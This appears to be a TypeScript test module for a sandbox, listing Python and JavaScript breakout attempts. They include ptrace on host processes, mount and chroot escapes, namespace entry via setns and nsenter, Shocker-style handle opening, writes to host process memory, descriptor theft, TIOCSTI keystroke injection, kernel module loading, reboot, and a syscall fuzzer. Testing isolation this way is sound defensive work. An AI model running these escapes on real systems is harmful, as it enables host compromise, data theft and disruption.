import type { Attack } from "../attack.ts";

const attack = (id: string, title: string, python: string, javascript?: string): Attack => ({
  id: `kernel-${id}`,
  group: "kernel",
  title,
  breakout: true,
  python,
  ...(javascript === undefined ? {} : { javascript }),
});

/** System calls that a guest has no business with. Some succeed in a kernel of the guest's own: what counts is what the host sees. */
export const KERNEL_CALL_ATTACKS: readonly Attack[] = [
  attack(
    "ptrace",
    "It traces a process of the host, and its parent",
    `
      found = [sc("ptrace", 16, T["canaryPid"], 0, 0), sc("ptrace", 0x4206, T["canaryPid"], 0, 0), sc("ptrace", 16, os.getppid(), 0, 0)]
      return {"reached": "a traced process of the host"} if 0 in found[:2] and "canary" in read("/proc/%d/cmdline" % T["canaryPid"]) else found`,
    `return ["gdb", "strace"].map((tool) => spawn(tool, "-p", String(T.canaryPid)))`,
  ),
  attack(
    "mount",
    "It mounts, unmounts and binds",
    `
      name = T["nonce"].encode()
      attempt(os.mkdir, "/tmp/m-" + T["nonce"])
      found = [sc("mount", name, b"/tmp", b"tmpfs", 0, None), sc("mount", name, b"/tmp/m-" + name, b"proc", 0, None),
        sc("mount", b"/", b"/tmp/m-" + name, None, 4096, None), sc("mount", None, b"/", None, 1 << 18 | 16384, None), sc("umount2", b"/proc/sys", 2)]
      attempt(os.rmdir, "/tmp/m-" + T["nonce"])
      return found`,
    `return [spawn("mount", "-t", "tmpfs", T.nonce, "/tmp"), spawn("umount", "-l", "/proc"), spawn("mount", "-o", "remount,rw", "/")]`,
  ),
  attack(
    "new-mount-calls",
    "It mounts by the newer calls",
    `
      fs = sc("fsopen", b"tmpfs", 0)
      found = [fs, sc("open_tree", -100, b"/", 1)]
      if isinstance(fs, int):
          found += [sc("fsconfig", fs, 1, b"source", T["nonce"].encode(), 0), sc("fsconfig", fs, 6, None, None, 0)]
          mounted = sc("fsmount", fs, 0, 0)
          if isinstance(mounted, int): found.append(sc("move_mount", mounted, b"", -100, b"/tmp", 4))
      attributes = struct.pack("QQQQ", 0, 1, 0, 0)
      return found + [sc("mount_setattr", -100, b"/", 0x8000, attributes, 32)]`,
  ),
  attack(
    "pivot-root",
    "Another root, and the old ways out of one",
    `
      attempt(os.mkdir, "/tmp/r-" + T["nonce"])
      here = os.open("/", os.O_RDONLY)
      found = [sc("pivot_root", b"/tmp", b"/tmp/r-" + T["nonce"].encode()), sc("chroot", b"/tmp")]
      attempt(os.fchdir, here)
      for _ in range(40): attempt(os.chdir, "..")
      found.append(sc("chroot", b"."))
      found.append(read("." + T["folder"] + "/secret.txt"))
      attempt(os.fchdir, here)
      attempt(os.rmdir, "/tmp/r-" + T["nonce"])
      return found`,
    `return [spawn("chroot", "/tmp"), spawn("pivot_root", ".", ".")]`,
  ),
  attack(
    "unshare",
    "Namespaces of its own, and a file system mounted in them",
    `
      if os.fork() == 0:
          sc("unshare", 0x10000000)
          write("/proc/self/setgroups", "deny")
          write("/proc/self/uid_map", "0 %d 1" % os.getuid())
          sc("unshare", 0x7e020000)
          sc("mount", T["nonce"].encode(), b"/tmp", b"tmpfs", 0, None)
          sc("mount", b"/proc", b"/proc", b"proc", 0, None)
          write(T["folder"] + "/../open.txt", T["nonce"])
          write("/proc/sys/kernel/core_pattern", T["nonce"])
          sc("sethostname", T["nonce"].encode(), 8)
          os._exit(0)
      os.wait()
      return read("/proc/sys/kernel/core_pattern")`,
    `return spawn("unshare", "-Urmpf", "sh", "-c", "mount -t tmpfs " + T.nonce + " /tmp; echo " + T.nonce + " > /proc/sys/kernel/core_pattern; hostname " + T.nonce)`,
  ),
  attack(
    "setns",
    "The namespaces of the host's processes",
    `
      found = []
      for pid in (1, os.getppid(), T["hostPid"], T["canaryPid"]):
          for name in ("user", "mnt", "net", "pid", "uts", "ipc", "cgroup"):
              fd = attempt(os.open, "/proc/%d/ns/%s" % (pid, name), os.O_RDONLY)
              if isinstance(fd, int): found.append(sc("setns", fd, 0))
          fd = sc("pidfd_open", pid, 0)
          if isinstance(fd, int): found.append(sc("setns", fd, 0x7e020000))
      return found + [read(T["folder"] + "/private.txt")]`,
    `return [spawn("nsenter", "-t", "1", "-a", "cat", T.folder + "/private.txt"), spawn("nsenter", "-t", String(T.hostPid), "-m", "cat", T.folder + "/private.txt")]`,
  ),
  attack(
    "clone3",
    "clone and clone3 with new namespaces",
    `
      arguments = struct.pack("Q" * 8, 0x10000000 | 0x20000 | 0x40000000, 0, 0, 0, 17, 0, 0, 0)
      child = sc("clone3", arguments, len(arguments))
      if child == 0: os._exit(0)
      other = sc("clone", 0x10000000 | 0x20000 | 17, 0, 0, 0, 0)
      if other == 0: os._exit(0)
      return [child, other]`,
  ),
  attack(
    "keyring",
    "Keys in the kernel's keyrings, which belong to no namespace",
    `
      made = sc("add_key", b"user", T["nonce"].encode(), b"x", 1, -4)
      rings = [sc("keyctl", 0, ring, 1) for ring in (-1, -2, -3, -4, -5)]
      found = [sc("keyctl", 11, ring, ctypes.create_string_buffer(4096), 4096) for ring in (-3, -4, -5)]
      return [made, rings, found, sc("request_key", b"user", b"canary", None, 0), read("/proc/keys")]`,
    `return [read("/proc/keys"), read("/proc/key-users"), spawn("keyctl", "show", "@u")]`,
  ),
  attack(
    "io-uring",
    "Files and sockets by io_uring, which filters of system calls do not see",
    `
      ring = sc("io_uring_setup", 8, ctypes.create_string_buffer(120))
      return [ring, sc(426, ring if isinstance(ring, int) else 0, 1, 0, 0, None, 0), sc(427, 0, 0, None, 0)]`,
  ),
  attack(
    "bpf",
    "A program inside the kernel",
    `
      code = struct.pack("BBhiBBhi", 0xb7, 0, 0, 0, 0x95, 0, 0, 0)
      buffer = ctypes.create_string_buffer(code)
      licence = ctypes.create_string_buffer(b"GPL")
      attributes = struct.pack("IIQQ", 1, 2, ctypes.addressof(buffer), ctypes.addressof(licence)) + bytes(96)
      made = [sc("bpf", 5, attributes, len(attributes)), sc("bpf", 0, struct.pack("IIII", 2, 4, 4, 1) + bytes(104), 120)]
      return on_host("a program in the kernel") if isinstance(made[0], int) else made`,
  ),
  attack(
    "perf",
    "Counters of the processor, for the whole machine",
    `
      attributes = struct.pack("IIQQQQ", 1, 112, 0, 0, 0, 0) + bytes(72)
      made = [sc("perf_event_open", attributes, pid, cpu, -1, 0) for pid, cpu in ((-1, 0), (0, -1), (T["canaryPid"], -1))]
      return on_host("counters of others") if isinstance(made[0], int) else made`,
  ),
  attack(
    "userfaultfd",
    "Page faults that it answers itself",
    `
      made = [sc("userfaultfd", flags) for flags in (0, 1, 0x80000)]
      return [made, isinstance(attempt(os.open, "/dev/userfaultfd", os.O_RDWR), int)]`,
  ),
  attack(
    "modules",
    "Modules of the kernel and another kernel",
    `
      return [sc("init_module", b"\\x7fELF" + bytes(200), 204, b""), sc("finit_module", 0, b"", 0), sc("delete_module", b"loop", 0x800),
        sc("kexec_load", 0, 0, None, 0), sc("kexec_file_load", -1, -1, 0, b"", 8)]`,
    `return [spawn("modprobe", "dummy"), spawn("insmod", "/tmp/x.ko"), spawn("rmmod", "loop")]`,
  ),
  attack(
    "file-handles",
    "Files by their inode numbers, past every mount (Shocker)",
    `
      found = []
      for path in ("/", "/tmp", "/etc/passwd", "/dev/null", sys.executable):
          mount = attempt(os.open, path, os.O_RDONLY)
          if not isinstance(mount, int): continue
          for inode in (2, 64, 128, 256):
              handle = struct.pack("II", 8, 1) + struct.pack("II", inode, 0)
              fd = sc("open_by_handle_at", mount, handle, os.O_RDONLY)
              if isinstance(fd, int): found.append([path, inode, attempt(os.listdir, fd)])
          buffer = ctypes.create_string_buffer(struct.pack("II", 128, 0) + bytes(128))
          found.append(sc("name_to_handle_at", -100, path.encode(), buffer, ctypes.byref(ctypes.c_int()), 0))
      opened = [each for each in found if isinstance(each, list)]
      return on_host(str(opened)[:200]) if opened else "refused"`,
  ),
  attack(
    "identity",
    "Other users, groups and capabilities",
    `
      tries = [attempt(f, *a) for f, a in ((os.setuid, (0,)), (os.setresuid, (0, 0, 0)), (os.setgid, (0,)), (os.setgroups, ([0],)), (os.setreuid, (-1, 0)))]
      header = struct.pack("II", 0x20080522, 0)
      sets = struct.pack("IIIIII", 0xffffffff, 0xffffffff, 0xffffffff, 0xffffffff, 0xffffffff, 0xffffffff)
      tries.append(sc("capset", header, sets))
      before = os.geteuid()
      private = read(T["folder"] + "/private.txt")
      return [before, tries, private]`,
    `return [attempt(() => sys.process.setuid(0)), attempt(() => sys.process.setgid(0)), attempt(() => sys.process.setgroups([0])), attempt(() => sys.process.initgroups("root", 0)), read(T.folder + "/private.txt")]`,
  ),
  attack(
    "host-name",
    "The host's name, clock, accounts and swap",
    `
      name = T["nonce"].encode()
      now = struct.pack("qq", int(time.time()) + 60, 0)
      return [sc("sethostname", name, len(name)), sc("setdomainname", name, len(name)), sc("settimeofday", now, None), sc("clock_settime", 0, now),
        sc("acct", b"/tmp/acct-" + name), sc("swapon", b"/tmp/swap", 0), sc("quotactl", 0x80000200, b"/dev/sda", 0, None), sc("reboot", 0xfee1dead, 672274793, 0, None)]`,
    `return [spawn("hostname", T.nonce), spawn("date", "-s", "+60 seconds"), spawn("swapon", "/tmp/none")]`,
  ),
  attack(
    "ports",
    "Ports of the hardware and descriptors of segments",
    `
      found = [sc("iopl", 3), sc("ioperm", 0x378, 1, 1), sc("modify_ldt", 1, bytes(16), 16)]
      return on_host("ports of the hardware") if 0 in found[:2] and "Google" not in read("/proc/version") and os.path.exists("/dev/port") else found`,
  ),
  attack(
    "kernel-log-call",
    "The kernel's log, by system call",
    `
      buffer = ctypes.create_string_buffer(4096)
      got = sc("syslog", 3, buffer, 4096)
      text = buffer.value.decode("latin1")
      return on_host(text[:200]) if isinstance(got, int) and "Command line" in text else [got, text[:100]]`,
  ),
  attack(
    "write-memory",
    "The memory of processes of the host, written",
    `
      data = ctypes.create_string_buffer(b"overwritten")
      local = (ctypes.c_size_t * 2)(ctypes.addressof(data), 8)
      found = []
      for pid in (T["canaryPid"], T["hostPid"]):
          for address in (0x400000, 0x10000, 0x555555554000):
              remote = (ctypes.c_size_t * 2)(address, 8)
              found.append(sc("process_vm_writev", pid, local, 1, remote, 1, 0))
      return {"reached": "memory of the host"} if any(isinstance(each, int) and each > 0 for each in found) else found[:3]`,
  ),
  attack(
    "descriptor-theft",
    "Open files of processes of the host",
    `
      found = []
      for pid in (T["canaryPid"], T["hostPid"], os.getppid(), 1):
          pidfd = sc("pidfd_open", pid, 0)
          if not isinstance(pidfd, int): continue
          for number in range(40):
              fd = sc("pidfd_getfd", pidfd, number, 0)
              if isinstance(fd, int): found.append([pid, number])
      mine = {os.getpid(), os.getppid(), 1}
      stolen = [each for each in found if each[0] in (T["canaryPid"], T["hostPid"]) and each[0] not in mine]
      return {"reached": stolen} if stolen else found`,
  ),
  attack(
    "other-architecture",
    "System calls of other architectures, which a filter by number does not know",
    `
      found = [sc(0x40000000 | 165, T["nonce"].encode(), b"/tmp", b"tmpfs", 0, None), sc(0x40000000 | 272, 0x10000000), sc(0x40000000 | 101, 16, T["canaryPid"], 0, 0)]
      return on_host("calls of x32") if 0 in found[:2] else found`,
  ),
  attack(
    "compat-calls",
    "Calls of 32-bit programs by interrupt",
    `
      import mmap
      if platform.machine() != "x86_64": return "none here"
      child = os.fork()
      if child == 0:
          page = mmap.mmap(-1, 4096, prot=7)
          page.write(bytes([0x53, 0xb8, 20, 0, 0, 0, 0xcd, 0x80, 0x5b, 0xc3]))
          run = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))
          os._exit(77 if run() == os.getpid() else 1)
      return "ran" if os.waitstatus_to_exitcode(os.waitpid(child, 0)[1]) == 77 else "refused"`,
  ),
  attack(
    "terminal-input",
    "Keys that the host's terminal takes for typed (TIOCSTI, TIOCLINUX)",
    `
      import fcntl, termios
      found = []
      for path in ("/dev/tty", "/dev/console", "/dev/pts/0", "/dev/pts/1", "/dev/tty0", "/proc/self/fd/0", "/proc/self/fd/2"):
          fd = attempt(os.open, path, os.O_RDWR | os.O_NOCTTY | os.O_NONBLOCK)
          if not isinstance(fd, int): continue
          if attempt(fcntl.ioctl, fd, termios.TIOCSTI, b"x") in (0, b"x"): found.append(path)
          if attempt(fcntl.ioctl, fd, 0x541c, b"\\x02") in (0, b"\\x02"): found.append(path)
      return on_host(found) if found else "refused"`,
    `const found = ["/dev/tty", "/dev/console", "/dev/pts/0", "/dev/pts/1", "/dev/tty0"].filter((path) => attempt(() => { sys.fs.closeSync(sys.fs.openSync(path, sys.fs.constants.O_RDWR | sys.fs.constants.O_NOCTTY | sys.fs.constants.O_NONBLOCK)); return "open"; }) === "open"); return found.length > 0 ? onHost(found) : "refused"`,
  ),
  attack(
    "odd-calls",
    "Calls that few programs make",
    `
      return [sc("memfd_secret", 0), sc("fanotify_init", 0, 0), sc("lookup_dcookie", 0, ctypes.create_string_buffer(64), 64), sc("nfsservctl", 0, None, None),
        sc("personality", 0x0040000), sc("mq_open", b"/" + T["nonce"].encode(), 0o102, 0o666, None), sc("semget", 1, 1, 0o1666), sc("msgget", 1, 0o1666),
        sc("kcmp", os.getpid(), T["canaryPid"], 0, 0, 0), sc("landlock_create_ruleset", None, 0, 1), sc("sched_setattr", 0, bytes(48), 0)]`,
  ),
  attack(
    "fuzz",
    "Every number there is, with empty arguments",
    `
      skip = {0, 1, 15, 162, 306, 22, 23, 34, 35, 56, 57, 58, 59, 60, 61, 62, 63, 72, 73, 101, 109, 112, 127, 128, 129, 130, 200, 202, 219, 230, 231, 232, 234, 247, 270, 271, 281, 297, 322, 424, 435, 436, 441, 449, 454, 455, 456}
      if platform.machine() != "x86_64": return "none here"
      child = os.fork()
      if child == 0:
          for number in range(700):
              if number not in skip: sc(number, 0, 0, 0, 0, 0, 0)
          os._exit(0)
      end = time.monotonic() + 1
      while time.monotonic() < end and os.waitpid(child, os.WNOHANG)[0] == 0: time.sleep(0.01)
      attempt(os.kill, child, 9)
      return "survived"`,
  ),
];
